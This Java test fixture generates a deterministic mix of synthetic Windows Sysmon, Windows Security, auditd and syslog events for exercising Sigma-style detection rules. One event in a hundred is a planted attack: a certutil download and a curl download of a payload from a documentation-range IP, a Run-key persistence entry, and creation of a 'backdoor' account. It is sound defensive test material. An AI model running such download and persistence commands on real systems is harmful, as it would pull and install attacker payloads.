package dev.keel.detect.testing;

import dev.keel.storage.Event;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * The event mix of the detection issue, shaped as the shippers send it, so that detect's field
 * mappings do their real work: 50 % Sysmon (half of it process creation) and 25 % Windows
 * Security as Winlogbeat 8 sends them (the record under {@code winlog.event_data}), 15 % auditd
 * records and 10 % plain syslog as syslog ingest makes them (program in {@code app_name}, the
 * record or text in {@code message}). The values are what a workstation and a Linux server do
 * all day; one event in a hundred is an attack that SigmaHQ's rules (and
 * {@link SigmaShapedCorpus}'s known-attack rules) know. Each event's attribute {@code mix_kind}
 * names its kind ({@link #KINDS}), so that each can be measured alone. Deterministic for a seed.
 */
public final class SigmaShapedEvents {

    private static final String KIND = "mix_kind";

    public static final List<String> KINDS = List.of("sysmon_process_creation", "sysmon_other", "windows_security",
            "auditd", "syslog");

    /** Image, command line, parent image: what a workstation runs all day. */
    private static final String[][] PROCESSES = {
        {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            "C:\\Windows\\System32\\services.exe"},
        {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"},
        {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Documents\\r.docx\"",
            "C:\\Windows\\explorer.exe"},
        {"C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            "C:\\Windows\\System32\\cmd.exe"},
        {"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
            "\"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\"", "C:\\Windows\\explorer.exe"},
        {"C:\\Windows\\System32\\backgroundTaskHost.exe",
            "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider",
            "C:\\Windows\\System32\\svchost.exe"},
    };
    private static final String[] CERTUTIL = {"C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.7/p.bin C:\\Users\\alice\\AppData\\Local\\Temp\\p.bin",
        "C:\\Windows\\System32\\cmd.exe"};

    private final Random random;
    private long serial = 4711;

    private SigmaShapedEvents(long seed) {
        this.random = new Random(seed);
    }

    /** {@code count} events of the mix, timed one millisecond apart from {@code start}. */
    public static List<Event> mix(int count, long seed, long start) {
        SigmaShapedEvents events = new SigmaShapedEvents(seed);
        List<Event> mix = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            mix.add(events.next("e-" + seed + "-" + i, start + i));
        }
        return mix;
    }

    public static String kindOf(Event event) {
        return (String) event.attributes().get(KIND);
    }

    /** Whether the event is one of the planted attacks. */
    public static boolean isAttack(Event event) {
        return Boolean.TRUE.equals(event.attributes().get("planted_attack"));
    }

    private Event next(String id, long time) {
        int roll = random.nextInt(100);
        boolean attack = random.nextInt(100) == 0;
        Map<String, Object> attributes = new LinkedHashMap<>();
        if (attack) {
            attributes.put("planted_attack", true);
        }
        if (roll < 25) {
            return winlogbeat(id, time, "sysmon_process_creation", "Microsoft-Windows-Sysmon/Operational", 1,
                    process(attack ? CERTUTIL : PROCESSES[random.nextInt(PROCESSES.length)]), "Process Create",
                    attributes);
        }
        if (roll < 50) {
            return sysmonOther(id, time, attack, attributes);
        }
        if (roll < 75) {
            return security(id, time, attack, attributes);
        }
        if (roll < 90) {
            return syslog(id, time, "auditd", "audisp-syslog", audit(attack), attributes);
        }
        String message = attack ? "Failed password for invalid user admin from 198.51.100.23 port 53122 ssh2"
                : pick("Accepted publickey for deploy from 10.0.0.5 port 50022 ssh2",
                        "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                        "Started Daily apt upgrade and clean activities.", "eth0: Link is Up - 1Gbps/Full",
                        "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/apt update");
        String app = attack ? "sshd" : message.startsWith("Accepted") ? "sshd" : message.startsWith("pam_unix")
                ? "CRON" : message.startsWith("Started") ? "systemd" : message.startsWith("eth0") ? "kernel" : "sudo";
        return syslog(id, time, "syslog", app, message, attributes);
    }

    private Map<String, Object> process(String[] process) {
        Map<String, Object> data = new LinkedHashMap<>();
        String image = process[0];
        data.put("RuleName", "-");
        data.put("UtcTime", "2026-12-08 09:15:01.532");
        data.put("ProcessGuid", "{6a1c3f27-ca95-6b17-c201-00000000" + Integer.toHexString(4096 + random.nextInt(4096))
                + "}");
        data.put("ProcessId", Integer.toString(1000 + random.nextInt(9000)));
        data.put("Image", image);
        data.put("OriginalFileName", image.substring(image.lastIndexOf('\\') + 1));
        data.put("CommandLine", process[1]);
        data.put("CurrentDirectory", "C:\\Users\\alice\\");
        data.put("User", "CORP\\alice");
        data.put("IntegrityLevel", "Medium");
        data.put("Hashes", "SHA256=" + Long.toHexString(random.nextLong()) + Long.toHexString(random.nextLong()));
        data.put("ParentImage", process[2]);
        data.put("ParentCommandLine", "\"" + process[2] + "\"");
        return data;
    }

    private Event sysmonOther(String id, long time, boolean attack, Map<String, Object> attributes) {
        Map<String, Object> data = new LinkedHashMap<>();
        data.put("Image", pick("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe",
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"));
        int kind = attack ? 0 : random.nextInt(4);
        int eventId;
        switch (kind) {
            case 0 -> {
                eventId = 13;
                data.put("EventType", "SetValue");
                data.put("TargetObject", attack
                        ? "HKU\\S-1-5-21-1004\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"
                        : "HKU\\S-1-5-21-1004\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\"
                                + random.nextInt(100));
                data.put("Details", attack ? "C:\\Users\\alice\\AppData\\Local\\Temp\\u.exe" : "Binary Data");
            }
            case 1 -> {
                eventId = 11;
                data.put("TargetFilename", "C:\\Users\\alice\\AppData\\Local\\Temp\\tmp" + random.nextInt(10000)
                        + ".tmp");
            }
            case 2 -> {
                eventId = 7;
                data.put("ImageLoaded", pick("C:\\Windows\\System32\\kernel32.dll", "C:\\Windows\\System32\\ntdll.dll",
                        "C:\\Windows\\System32\\user32.dll"));
                data.put("Signed", "true");
                data.put("Signature", "Microsoft Windows");
            }
            default -> {
                eventId = 3;
                data.put("Protocol", "tcp");
                data.put("Initiated", "true");
                data.put("DestinationIp", "142.250." + random.nextInt(256) + "." + random.nextInt(256));
                data.put("DestinationPort", "443");
            }
        }
        return winlogbeat(id, time, "sysmon_other", "Microsoft-Windows-Sysmon/Operational", eventId, data,
                "Sysmon event", attributes);
    }

    private Event security(String id, long time, boolean attack, Map<String, Object> attributes) {
        int eventId = attack ? 4720 : pick(4624, 4672, 4625, 4648, 4798);
        Map<String, Object> data = new LinkedHashMap<>();
        data.put("SubjectUserName", "WS01$");
        data.put("SubjectDomainName", "CORP");
        data.put("TargetUserName", attack ? "backdoor" : "alice");
        data.put("TargetDomainName", "CORP");
        if (eventId == 4624 || eventId == 4625) {
            data.put("LogonType", pick("2", "3", "11"));
            data.put("IpAddress", "10.0.0." + random.nextInt(256));
            data.put("WorkstationName", "WS-" + random.nextInt(100));
            data.put("AuthenticationPackageName", "Negotiate");
        }
        return winlogbeat(id, time, "windows_security", "Security", eventId, data, "Security event", attributes);
    }

    private String audit(boolean attack) {
        long at = serial++;
        String header = "msg=audit(1796724902.123:" + at + "): ";
        if (attack) {
            return "type=EXECVE " + header + "argc=4 a0=\"curl\" a1=\"-o\" a2=\"/tmp/.x\" a3=\"http://203.0.113.7/x.sh\"";
        }
        return switch (random.nextInt(4)) {
            case 0 -> "type=SYSCALL " + header + "arch=c000003e syscall=59 success=yes exit=0 a0=55f1c3a8e2d0 "
                    + "a1=55f1c3a8f6b0 a2=55f1c3a904e0 a3=8 items=2 ppid=1 pid=" + (2000 + random.nextInt(5000))
                    + " auid=1000 uid=0 comm=\"" + pick("ls", "cat", "python3") + "\" exe=\"/usr/bin/"
                    + pick("ls", "cat", "python3") + "\" key=\"exec\"";
            case 1 -> "type=EXECVE " + header + "argc=2 a0=\"" + pick("ls", "cat", "grep") + "\" a1=\""
                    + pick("-la", "/var/log/messages", "error") + "\"";
            case 2 -> "type=CWD " + header + "cwd=\"/home/deploy\"";
            default -> "type=PATH " + header + "item=0 name=\"/usr/bin/" + pick("ls", "cat", "grep")
                    + "\" inode=16913530 dev=fd:00 mode=0100755 nametype=NORMAL";
        };
    }

    private static Event winlogbeat(String id, long time, String kind, String channel, int eventId,
            Map<String, Object> data, String message, Map<String, Object> attributes) {
        Map<String, Object> winlog = new LinkedHashMap<>();
        winlog.put("channel", channel);
        winlog.put("event_id", Integer.toString(eventId));
        winlog.put("provider_name", channel.equals("Security") ? "Microsoft-Windows-Security-Auditing"
                : "Microsoft-Windows-Sysmon");
        winlog.put("computer_name", "WS01.corp.example");
        winlog.put("record_id", Long.toString(time % 1_000_000));
        winlog.put("event_data", data);
        attributes.put("winlog", winlog);
        attributes.put("event", Map.of("code", Integer.toString(eventId), "kind", "event"));
        attributes.put("agent", Map.of("type", "winlogbeat", "version", "8.13.4"));
        attributes.put("host", Map.of("name", "ws01", "os", Map.of("family", "windows")));
        attributes.put(KIND, kind);
        return new Event(id, time, time, "http", "ws01", null, null, null, null, message, attributes);
    }

    private static Event syslog(String id, long time, String kind, String app, String message,
            Map<String, Object> attributes) {
        attributes.put("facility", "auth");
        attributes.put("app_name", app);
        attributes.put("syslog_format", "rfc3164");
        attributes.put("transport", "tcp");
        attributes.put(KIND, kind);
        return new Event(id, time, time, "syslog", "ws02", null, null, null, "info", message, attributes);
    }

    @SafeVarargs
    private <T> T pick(T... choices) {
        return choices[random.nextInt(choices.length)];
    }
}
